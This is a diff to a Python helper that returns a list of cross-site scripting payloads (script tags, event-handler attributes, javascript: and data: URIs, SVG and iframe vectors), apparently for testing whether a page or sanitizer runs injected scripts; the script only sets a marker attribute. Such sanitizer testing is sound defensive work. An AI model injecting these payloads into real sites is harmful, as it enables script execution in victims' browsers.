@@ -5,32 +5,25 @@ SPRUNG = "document.documentElement.setAttribute('data-sprung','1')"
 
 
 def markup(address: str) -> list[str]:
-    """Return 30 ways to run a script in a page, or to make it request something from `address`, without a click."""
+    """Return ways to run a script in a page, or to make it request something from `address`, without a click."""
     js = SPRUNG
     coded = "".join(f"&#{ord(c)};" for c in js)
     return [
         f"<script>{js}</script>",
         f"</p></td></blockquote><script>{js}</script>",
         f"--><script>{js}</script>",
-        f"<![CDATA[<script>{js}</script>]]>",
         f"<ScRiPt >{js}</sCrIpT\n>",
-        f"<script/x>{js}</script>",
         f"<script src='{address}/a.js'></script>",
         f'<script src="data:text/javascript,{js}"></script>',
         f"<svg><script>{coded}</script></svg>",
-        f"<svg/onload={js}>",
         f"<svg><animate onbegin={js} attributeName=x dur=1s>",
         f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x\">",
-        f"<math><mtext></mtext><script>{js}</script></math>",
         f"<img src=x onerror={js}>",
-        f"<img src=x\nonerror\n=\n{js}>",
         f"<img src='{address}/a.png'>",
         f"<body onload={js}>",
         f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
         f'<iframe src="javascript:parent.{js}"></iframe>',
         f'<object data="javascript:{js}"></object>',
-        f'<embed src="javascript:{js}">',
-        f"<video><source onerror={js}></video>",
         f"<input autofocus onfocus={js}>",
         f"<details open ontoggle={js}>x</details>",
         f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{js}">x</p>',
